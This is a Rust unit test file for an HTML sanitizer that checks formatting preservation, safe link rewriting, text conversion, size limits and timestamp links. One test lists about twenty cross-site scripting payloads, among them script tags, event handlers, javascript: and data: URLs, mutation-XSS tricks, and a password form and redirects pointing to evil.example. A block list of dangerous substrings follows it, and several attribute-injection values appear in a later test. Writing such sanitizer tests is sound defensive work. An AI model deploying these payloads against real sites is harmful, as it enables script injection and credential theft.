use types::{FileId, Timestamp};

use super::*;

fn safe(html: &str) -> Content {
    Content::from_html("html", html).unwrap()
}

#[test]
fn formatting_of_the_editor_stays() {
    let html = "<p>Hi <strong>Ann</strong>, <em>see</em> <s>this</s> <code>x &lt; y</code><br>next</p>\
                <ul><li><p>one</p></li></ul><blockquote><p>said</p></blockquote><pre><code>a\n b</code></pre>";
    assert_eq!(safe(html).html(), html);
}

#[test]
fn nothing_that_runs_or_loads_gets_through() {
    let hostile = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\nscript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:x\" onclick=\"alert(1)\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<p style=\"background:url(javascript:alert(1))\" onmouseover=alert(1) class=toolbar id=app>x</p>",
        "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<p><a href=\"https://ok.example\" title='\"><script>alert(1)</script>'>x</a></p>",
        "<style>@import url(https://evil.example/x.css)</style>",
        "<video><source onerror=\"alert(1)\"></video>",
    ];
    for html in hostile {
        let result = safe(html);
        let lower = result.html().to_lowercase();
        for bad in [
            "<script",
            "<svg",
            "<img",
            "<iframe",
            "<style",
            "<form",
            "onerror",
            "onclick",
            "javascript:",
            "style=",
            "data:",
            "evil.example",
        ] {
            assert!(!lower.contains(bad), "{html}\nbecame\n{lower}");
        }
    }
}

#[test]
fn links_open_apart_and_tell_nothing() {
    assert_eq!(
        safe("<a href=\"https://example.org/?a=1&amp;b=2\" target=_self rel=opener>x</a>").html(),
        "<a href=\"https://example.org/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"
    );
    assert!(safe("<a href=\"mailto:a@example.org\">x</a>").html().contains("href=\"mailto:a@example.org\""));
}

#[test]
fn plain_text_keeps_lines_and_lists() {
    let html = "<p>Hi&nbsp;there</p><p>1 &lt; 2 &amp;amp; so<br>on</p><ul><li>one</li><li>two</li></ul>\
                <a href=\"https://example.org/?q=a>b\">link</a>";
    assert_eq!(safe(html).text(), "Hi there\n\n1 < 2 &amp; so\non\n\n- one\n- two\n\nlink");
    assert_eq!(safe("<p> </p><br><div></div>").text(), "");
    assert!(safe("<p>&nbsp;</p>").is_empty());
}

#[test]
fn text_becomes_safe_html_with_links() {
    let content = Content::from_text("text", "Hi <b>\nsee https://example.org/?a=1&b=2.\n\n\nBye").unwrap();
    assert_eq!(
        content.html(),
        "<p>Hi &lt;b&gt;<br>see <a href=\"https://example.org/?a=1&amp;b=2\" target=\"_blank\" \
         rel=\"noopener noreferrer nofollow\">https://example.org/?a=1&amp;b=2</a>.</p><p>Bye</p>"
    );
    assert_eq!(content.text(), "Hi <b>\nsee https://example.org/?a=1&b=2.\n\nBye");
    assert!(
        !Content::from_text("text", "https://x.example/\"onmouseover=alert(1)")
            .unwrap()
            .html()
            .contains("onmouseover=\"")
    );
}

#[test]
fn the_size_is_limited_and_the_preview_short() {
    let error = Content::from_html("html", &"x".repeat(100_001)).unwrap_err();
    assert!(error.to_string().starts_with("html: "), "{error}");
    let preview = safe(&format!("<p>{}</p>", "Zoë ".repeat(100))).preview(&[]);
    assert!(preview.ends_with('…') && preview.chars().count() <= PREVIEW_CHARACTERS + 1);
    assert_eq!(safe("<p>a</p><p>b</p>").preview(&[]), "a b");
    let files = ["bench top.png", "plan.pdf"].map(|name| File {
        id: FileId(1),
        name: name.to_owned(),
        content_type: String::new(),
        size: 1,
        is_image: false,
        url: String::new(),
        created_at: Timestamp(0),
    });
    assert_eq!(Content::default().preview(&files), "bench top.png, plan.pdf");
    assert_eq!(safe("<p>a</p>").preview(&files), "a");
}

#[test]
fn links_to_moments_stay_where_they_may() {
    let html = "<p>At <a data-at-ms=\"83000\">1:23</a> and <a data-at-ms=\"0\">0:00</a></p>";
    let note = Content::from_html_with_moments("html", html).unwrap();
    assert_eq!(moments(note.html()), [83_000, 0]);
    assert_eq!(note.text(), "At 1:23 and 0:00");
    let again = Content::from_html_with_moments("html", note.html()).unwrap();
    assert_eq!(again.html(), note.html());
    assert!(moments(safe(html).html()).is_empty());
    for hostile in ["-1", "1e3", "", "1234567890", "1\" onclick=\"x", "x"] {
        let html = format!("<a data-at-ms='{hostile}' onclick='x'>1:23</a>");
        let note = Content::from_html_with_moments("html", &html).unwrap();
        assert!(moments(note.html()).is_empty(), "{hostile}");
        assert!(!note.html().contains("onclick=\""), "{}", note.html());
    }
    let typed = Content::from_html_with_moments("html", "<p>data-at-ms=\"5\" data-at-ms=&quot;6&quot;</p>");
    assert!(moments(typed.unwrap().html()).is_empty());
}
